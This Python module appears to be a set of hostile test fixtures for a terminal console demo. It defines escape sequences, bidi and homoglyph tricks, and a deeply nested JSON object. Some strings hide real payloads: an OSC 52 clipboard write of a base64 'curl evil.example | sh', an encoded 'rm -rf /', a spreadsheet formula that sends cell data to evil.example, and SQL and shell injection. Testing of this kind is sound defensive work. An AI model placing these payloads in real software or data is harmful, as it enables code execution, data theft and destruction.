"""Texts and JSON that try to be more than data.

Whoever may write a row can write these: each has broken some terminal program, so the demo world
keeps them where every screen meets them. Postgres text holds anything but NUL and lone surrogates.
"""

from __future__ import annotations

from console.demo.world import RawJson

ESC = "\x1b"

MARKUP = "[/] [bold red]overdue[/bold red] [@click=app.quit]press me[/] [link=https://x.example]"
ANSI = f"{ESC}[31mred{ESC}[0m {ESC}[2J{ESC}[1;1Hgone{ESC}[?1049l"
OSC_52 = f"copy me{ESC}]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZSB8IHNo\x07 done"
OSC_8 = f"{ESC}]8;;https://evil.example{ESC}\\https://acme.example{ESC}]8;;{ESC}\\"
TITLE = f"{ESC}]0;PROD acme-corp super_admin\x07quiet title change"
C1 = "\x9b31mred by C1\x9b0m \x9d52;c;cm0gLXJmIC8=\x9c end"
BIDI = "invoice_\u202efdp.exe\u202c and \u2066isolated \u2069text\u200f"
ZERO_WIDTH = "ad\u200bmin\u200c@\u200dradiant\ufeff.example\u2060"
WIDE = "全角テキスト が列の幅を決める — 한국어 폭 — ｆｕｌｌｗｉｄｔｈ"
EMOJI = "👩🏽‍🚀👨‍👩‍👧‍👦🏳️‍🌈🇯🇵 family of four in one cluster"
COMBINING = "Z" + "".join(chr(0x0300 + i % 0x70) for i in range(200)) + "algo"
COMPANY = "Z" + "\u0351\u036b\u0343\u036a\u0302\u0315" * 4 + "algo! Labs [/] \u202esbal"
RTL = "שלום עולם، مرحبا بالعالم 12:30 abc"
CONTROLS = "total: 9000\b\b\b\b1\r\n\tover\vand\fout\x07\x7f"
LOOKALIKE = "\u0430cme-c\u043erp"
SPREADSHEET = '=HYPERLINK("https://evil.example?x="&A1,"balance")'
SHELL = "'; DROP TABLE tenants; -- $(reboot) `id` %s %n {0} {{7*7}}"
LONG_LINE = "verylongwordwithoutanyspace" * 190
SPACES = "\u00a0\u2003\u3000 leading, trailing and exotic spaces \u2028\u2029\u0085"

TEXTS: tuple[str, ...] = (
    MARKUP,
    ANSI,
    OSC_52,
    OSC_8,
    TITLE,
    C1,
    BIDI,
    ZERO_WIDTH,
    WIDE,
    EMOJI,
    COMBINING,
    RTL,
    CONTROLS,
    LOOKALIKE,
    SPREADSHEET,
    SHELL,
    LONG_LINE,
    SPACES,
)


def text(number: int, limit: int | None = None) -> str:
    """The hostile text of that number, round and round, cut to ``limit`` characters."""
    return TEXTS[number % len(TEXTS)][:limit]


def _deep(levels: int) -> str:
    return '{"deeper":' * levels + '"bottom"' + "}" * levels


DOCUMENT = RawJson(
    '{"": "empty key", "[/]": "[@click=app.quit]x[/]", "__proto__": {"admin": true},'
    ' "huge": 123456789012345678901234567890.123456789, "tiny": 1e-320, "vast": 1E+400,'
    ' "zero": -0.0, "one": 1.0, "null": null, "empty": [{}, [], ""],'
    ' "\\u202ebidi": "\\u202etxet", "esc": "\\u001b[31mred\\u001b[0m", "c1": "\\u009b2J",'
    ' "caf\\u00e9": "NFC", "cafe\\u0301": "NFD", "mixed": [1, "1", 1.0, true, null, {"1": 1}],'
    f' "deep": {_deep(60)}, "long": "{"x" * 4000}"'
    "}"
)
"""One JSON object with everything that a reader of JSON tends to get wrong, 60 levels deep."""
